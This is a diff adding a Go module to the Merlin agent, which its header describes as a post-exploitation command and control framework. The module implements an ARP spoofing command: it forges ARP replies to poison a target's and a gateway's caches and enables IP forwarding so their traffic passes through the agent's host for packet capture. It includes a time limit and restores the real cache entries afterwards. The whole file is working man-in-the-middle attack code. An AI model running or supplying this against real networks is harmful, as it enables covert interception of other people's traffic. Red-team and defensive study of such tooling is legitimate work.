@@ -0,0 +1,326 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"encoding/binary"
+	"fmt"
+	"net"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cleanup"
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+const (
+	// defaultSpoofSeconds is how long the ARP spoof runs when a duration is not provided
+	defaultSpoofSeconds = 300
+	// maxSpoofSeconds caps the ARP spoof duration so a forgotten job can not disrupt the network indefinitely
+	maxSpoofSeconds = 3600
+	// spoofInterval is how often the forged ARP replies are resent
+	spoofInterval = 2 * time.Second
+)
+
+// arpSocket sends and receives raw Ethernet frames on a single interface
+type arpSocket interface {
+	// WriteFrame sends an Ethernet frame
+	WriteFrame(frame []byte) error
+	// ReadFrame returns the next ARP frame or nil if none arrived before the read timeout
+	ReadFrame() ([]byte, error)
+	// Close releases the socket
+	Close() error
+}
+
+// arpHost is one side of the spoofed pair
+type arpHost struct {
+	IP  net.IP
+	MAC net.HardwareAddr
+}
+
+// arpSpoof is the running ARP spoof, only one target pair is spoofed at a time
+var arpSpoof struct {
+	sync.Mutex
+	running   bool
+	started   time.Time
+	until     time.Time
+	iface     string
+	target    arpHost
+	gateway   arpHost
+	sent      int
+	restored  bool
+	forwarded bool
+	halt      func()
+	done      chan struct{}
+}
+
+// ArpSpoof poisons the ARP caches of a single target and its gateway so the traffic between them is routed through
+// the agent's host where it can be captured with the pcap module. IP forwarding is enabled for the duration and the
+// original ARP entries are restored when the spoof stops or its time limit expires
+// arpspoof start <interface> <target IP> <gateway IP> [seconds]
+// arpspoof status
+// arpspoof stop
+func ArpSpoof(cmd jobs.Command) (results jobs.Results) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering ArpSpoof() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		results.Stderr = "not enough arguments provided to the arpspoof command"
+		return
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "start":
+		if len(cmd.Args) < 4 {
+			results.Stderr = "not enough arguments provided to the arpspoof start command"
+			return
+		}
+		seconds := defaultSpoofSeconds
+		if len(cmd.Args) > 4 {
+			var err error
+			if seconds, err = strconv.Atoi(cmd.Args[4]); err != nil || seconds < 1 || seconds > maxSpoofSeconds {
+				results.Stderr = fmt.Sprintf("%s is not a valid number of seconds, it must be between 1 and %d", cmd.Args[4], maxSpoofSeconds)
+				return
+			}
+		}
+		out, err := startArpSpoof(cmd.Args[1], cmd.Args[2], cmd.Args[3], seconds)
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		results.Stdout = out
+	case "status":
+		arpSpoof.Lock()
+		defer arpSpoof.Unlock()
+		if !arpSpoof.running {
+			results.Stdout = "ARP spoofing is stopped"
+			if !arpSpoof.started.IsZero() {
+				results.Stdout += fmt.Sprintf(", the last spoof of %s and %s restored the ARP entries: %t", arpSpoof.target.IP, arpSpoof.gateway.IP, arpSpoof.restored)
+			}
+			return
+		}
+		results.Stdout = fmt.Sprintf("Spoofing %s (%s) and %s (%s) on %s since %s until %s, %d forged replies sent",
+			arpSpoof.target.IP, arpSpoof.target.MAC, arpSpoof.gateway.IP, arpSpoof.gateway.MAC, arpSpoof.iface,
+			arpSpoof.started.Format(time.RFC3339), arpSpoof.until.Format(time.RFC3339), arpSpoof.sent)
+	case "stop":
+		arpSpoof.Lock()
+		if !arpSpoof.running {
+			arpSpoof.Unlock()
+			results.Stderr = "ARP spoofing is not running"
+			return
+		}
+		halt, done := arpSpoof.halt, arpSpoof.done
+		arpSpoof.Unlock()
+		halt()
+		<-done
+		arpSpoof.Lock()
+		results.Stdout = fmt.Sprintf("Stopped ARP spoofing %s and %s, restored the ARP entries: %t", arpSpoof.target.IP, arpSpoof.gateway.IP, arpSpoof.restored)
+		arpSpoof.Unlock()
+	default:
+		results.Stderr = fmt.Sprintf("unknown arpspoof command: %s", cmd.Args[0])
+	}
+	return
+}
+
+// startArpSpoof validates the target pair is on the interface's network, resolves their MAC addresses, and starts
+// sending the forged ARP replies
+func startArpSpoof(name, targetIP, gatewayIP string, seconds int) (string, error) {
+	arpSpoof.Lock()
+	defer arpSpoof.Unlock()
+	if arpSpoof.running {
+		return "", fmt.Errorf("ARP spoofing is already running against %s and %s", arpSpoof.target.IP, arpSpoof.gateway.IP)
+	}
+
+	iface, err := net.InterfaceByName(name)
+	if err != nil {
+		return "", fmt.Errorf("there was an error getting the %s interface: %s", name, err)
+	}
+	if len(iface.HardwareAddr) != 6 {
+		return "", fmt.Errorf("the %s interface is not an Ethernet interface", name)
+	}
+	local, network, err := interfaceIPv4(iface)
+	if err != nil {
+		return "", err
+	}
+	target, gateway := net.ParseIP(targetIP).To4(), net.ParseIP(gatewayIP).To4()
+	if target == nil || gateway == nil {
+		return "", fmt.Errorf("the target %s and gateway %s must be IPv4 addresses", targetIP, gatewayIP)
+	}
+	for _, ip := range []net.IP{target, gateway} {
+		if !network.Contains(ip) || ip.Equal(local) {
+			return "", fmt.Errorf("%s is not another host on the %s network of %s", ip, network, name)
+		}
+	}
+	if target.Equal(gateway) {
+		return "", fmt.Errorf("the target and gateway must be different hosts")
+	}
+
+	sock, err := openARP(iface)
+	if err != nil {
+		return "", fmt.Errorf("there was an error opening a raw socket on %s: %s", name, err)
+	}
+	targetMAC, err := resolveMAC(sock, iface.HardwareAddr, local, target)
+	if err != nil {
+		_ = sock.Close()
+		return "", err
+	}
+	gatewayMAC, err := resolveMAC(sock, iface.HardwareAddr, local, gateway)
+	if err != nil {
+		_ = sock.Close()
+		return "", err
+	}
+	forwarded, err := setIPForwarding(true)
+	if err != nil {
+		_ = sock.Close()
+		return "", fmt.Errorf("there was an error enabling IP forwarding: %s", err)
+	}
+
+	arpSpoof.running, arpSpoof.restored, arpSpoof.sent = true, false, 0
+	arpSpoof.started = time.Now()
+	arpSpoof.until = arpSpoof.started.Add(time.Duration(seconds) * time.Second)
+	arpSpoof.iface, arpSpoof.forwarded = name, forwarded
+	arpSpoof.target = arpHost{IP: target, MAC: targetMAC}
+	arpSpoof.gateway = arpHost{IP: gateway, MAC: gatewayMAC}
+	// The spoof is stopped once, by the stop command, the exit-time cleanup, or not at all when the time limit expires
+	stop, done := make(chan struct{}), make(chan struct{})
+	var once sync.Once
+	halt := func() { once.Do(func() { close(stop) }) }
+	arpSpoof.halt, arpSpoof.done = halt, done
+	remove := cleanup.Add(cleanup.FORWARD, fmt.Sprintf("ARP spoof of %s and %s on %s", target, gateway, name), func() error {
+		halt()
+		<-done
+		return nil
+	})
+	go func() {
+		runArpSpoof(sock, iface.HardwareAddr, arpSpoof.target, arpSpoof.gateway, arpSpoof.until, stop, done)
+		remove()
+	}()
+
+	return fmt.Sprintf("Spoofing %s (%s) and %s (%s) on %s for %d seconds", target, targetMAC, gateway, gatewayMAC, name, seconds), nil
+}
+
+// runArpSpoof resends the forged replies until it is stopped or the time limit expires, then restores the real
+// ARP entries on both hosts and the original IP forwarding setting
+func runArpSpoof(sock arpSocket, local net.HardwareAddr, target, gateway arpHost, until time.Time, stop, done chan struct{}) {
+	defer close(done)
+	defer sock.Close()
+	ticker := time.NewTicker(spoofInterval)
+	defer ticker.Stop()
+	deadline := time.NewTimer(time.Until(until))
+	defer deadline.Stop()
+
+	for {
+		// Tell the target the gateway is at our address and the gateway the target is at our address
+		_ = sock.WriteFrame(arpFrame(2, local, target.MAC, local, gateway.IP, target.MAC, target.IP))
+		_ = sock.WriteFrame(arpFrame(2, local, gateway.MAC, local, target.IP, gateway.MAC, gateway.IP))
+		arpSpoof.Lock()
+		arpSpoof.sent += 2
+		arpSpoof.Unlock()
+		select {
+		case <-ticker.C:
+			continue
+		case <-stop:
+		case <-deadline.C:
+		}
+		break
+	}
+
+	// Send the real addresses several times so a dropped frame does not leave a poisoned cache behind
+	restored := true
+	for i := 0; i < 5; i++ {
+		if sock.WriteFrame(arpFrame(2, local, target.MAC, gateway.MAC, gateway.IP, target.MAC, target.IP)) != nil ||
+			sock.WriteFrame(arpFrame(2, local, gateway.MAC, target.MAC, target.IP, gateway.MAC, gateway.IP)) != nil {
+			restored = false
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+	arpSpoof.Lock()
+	if !arpSpoof.forwarded {
+		_, _ = setIPForwarding(false)
+	}
+	arpSpoof.running, arpSpoof.restored = false, restored
+	arpSpoof.Unlock()
+	if cli.Enabled {
+		cli.Message(cli.NOTE, fmt.Sprintf("Stopped ARP spoofing %s and %s, restored: %t", target.IP, gateway.IP, restored))
+	}
+}
+
+// resolveMAC sends ARP requests for the IP address and waits for the reply
+func resolveMAC(sock arpSocket, localMAC net.HardwareAddr, localIP, ip net.IP) (net.HardwareAddr, error) {
+	broadcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
+	for attempt := 0; attempt < 3; attempt++ {
+		if err := sock.WriteFrame(arpFrame(1, localMAC, broadcast, localMAC, localIP, make(net.HardwareAddr, 6), ip)); err != nil {
+			return nil, fmt.Errorf("there was an error sending an ARP request for %s: %s", ip, err)
+		}
+		wait := time.Now().Add(time.Second)
+		for time.Now().Before(wait) {
+			frame, err := sock.ReadFrame()
+			if err != nil {
+				return nil, fmt.Errorf("there was an error reading the ARP reply for %s: %s", ip, err)
+			}
+			// Ethernet header, then an IPv4 over Ethernet ARP reply
+			if len(frame) < 42 || binary.BigEndian.Uint16(frame[12:]) != 0x0806 || binary.BigEndian.Uint16(frame[20:]) != 2 {
+				continue
+			}
+			if bytes.Equal(frame[28:32], ip) {
+				return net.HardwareAddr(append([]byte(nil), frame[22:28]...)), nil
+			}
+		}
+	}
+	return nil, fmt.Errorf("%s did not answer ARP requests", ip)
+}
+
+// arpFrame builds an Ethernet frame with an IPv4 ARP request (1) or reply (2)
+func arpFrame(op uint16, src, dst, senderMAC net.HardwareAddr, senderIP net.IP, targetMAC net.HardwareAddr, targetIP net.IP) []byte {
+	frame := make([]byte, 42)
+	copy(frame[0:], dst)
+	copy(frame[6:], src)
+	binary.BigEndian.PutUint16(frame[12:], 0x0806)
+	// Ethernet hardware, IPv4 protocol, 6 byte hardware and 4 byte protocol addresses
+	binary.BigEndian.PutUint16(frame[14:], 1)
+	binary.BigEndian.PutUint16(frame[16:], 0x0800)
+	frame[18], frame[19] = 6, 4
+	binary.BigEndian.PutUint16(frame[20:], op)
+	copy(frame[22:], senderMAC)
+	copy(frame[28:], senderIP.To4())
+	copy(frame[32:], targetMAC)
+	copy(frame[38:], targetIP.To4())
+	return frame
+}
+
+// interfaceIPv4 returns the interface's first IPv4 address and network
+func interfaceIPv4(iface *net.Interface) (net.IP, *net.IPNet, error) {
+	addrs, err := iface.Addrs()
+	if err != nil {
+		return nil, nil, fmt.Errorf("there was an error getting the %s interface addresses: %s", iface.Name, err)
+	}
+	for _, addr := range addrs {
+		if n, ok := addr.(*net.IPNet); ok && n.IP.To4() != nil {
+			return n.IP.To4(), n, nil
+		}
+	}
+	return nil, nil, fmt.Errorf("the %s interface does not have an IPv4 address", iface.Name)
+}